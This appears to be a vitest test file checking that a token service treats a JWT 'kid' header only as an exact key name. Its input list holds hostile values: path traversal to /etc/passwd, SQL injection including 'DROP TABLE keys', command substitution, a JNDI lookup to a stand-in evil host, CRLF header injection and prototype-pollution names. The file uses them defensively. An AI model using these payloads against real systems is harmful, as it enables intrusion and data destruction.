import { describe, expect, it } from "vitest";
import { redeem, testIdp, verdictOf } from "../support/redemption.ts";
import { makeTestKey } from "../support/test-idp.ts";

/** A05: a kid that is a path, a query, a pattern or the name of a member. It is compared, and used for nothing else. */
const STRINGS: [string, string][] = [
  ["a path", "../../../../dev/null"],
  ["a path in another system's spelling", "..\\..\\windows\\win.ini"],
  ["an absolute path", "/etc/passwd"],
  ["an encoded path", "..%2f..%2fkeys"],
  ["a file URL", "file:///dev/null"],
  ["a URL", "https://canary.evil.example/key"],
  ["a protocol-relative URL", "//canary.evil.example/key"],
  ["a data URL", "data:application/json,{}"],
  ["SQL", "' OR 1=1 --"],
  ["SQL that selects a key", "x' UNION SELECT 'secret'; --"],
  ["SQL that stops", "1; DROP TABLE keys"],
  ["a command", "$(id)"],
  ["a command in backticks", "`id`"],
  ["a pipe", "key|id"],
  ["a template", "{{7*7}}"],
  ["a lookup", "${jndi:ldap://canary.evil.example/a}"],
  ["LDAP", "*)(uid=*"],
  ["a pattern", ".*"],
  ["a pattern that never ends", "(a+)+$"],
  ["a wildcard", "*"],
  ["a percent sign", "%"],
  ["NUL", "\u0000"],
  ["the key's name and NUL", "key-ES256\u0000"],
  ["the key's name and a line break", "key-ES256\n"],
  ["the key's name and a header", "key-ES256\r\nSet-Cookie: a=b"],
  ["the key's name in capitals", "KEY-ES256"],
  ["the key's name and a space", "key-ES256 "],
  ["the key's name in fullwidth letters", "ｋｅｙ-ES256"],
  ["the key's name and a joiner", "key-ES256\u200d"],
  ["part of the key's name", "key"],
  ["__proto__", "__proto__"],
  ["constructor", "constructor"],
  ["prototype", "prototype"],
  ["toString", "toString"],
  ["hasOwnProperty", "hasOwnProperty"],
  ["length", "length"],
  ["an index", "0"],
  ["null", "null"],
  ["undefined", "undefined"],
  ["as long as it may be", "k".repeat(128)],
];

const OTHERS: [string, unknown][] = [
  ["empty", ""],
  ["a number", 0],
  ["null", null],
  ["true", true],
  ["a list", ["key-ES256"]],
  ["an object", { $ne: null }],
  ["a byte longer than it may be", "k".repeat(129)],
  ["10 KB", "k".repeat(10_240)],
];

describe("a kid", () => {
  it.each(STRINGS)("that is %s names no key", async (_what, kid) => {
    expect(await verdictOf({ header: { kid } })).toEqual({ verdict: "key_unknown", consumed: 0 });
  });

  it.each(OTHERS)("that is %s is malformed", async (_what, kid) => {
    expect(await verdictOf({ header: { kid } })).toEqual({ verdict: "assertion_malformed", consumed: 0 });
  });

  it.each(STRINGS)("that is %s is said to nobody", async (_what, kid) => {
    const { outcome } = await redeem({ header: { kid: `canary${kid.slice(0, 100)}` } });
    expect(outcome.completed ? "" : String(outcome.cause)).toBe("Rejected: key_unknown");
  });

  it("is compared exactly, so that a key may well have a strange name", async () => {
    const { jwks } = await testIdp();
    const odd = await makeTestKey("ES256", "../' OR 1=1");
    const documents = { idp: { key_set: { keys: [...jwks.keys, odd.publicJwk] } } };
    expect(await verdictOf({ signer: odd, documents })).toEqual({ verdict: "granted", consumed: 1 });
  });
});
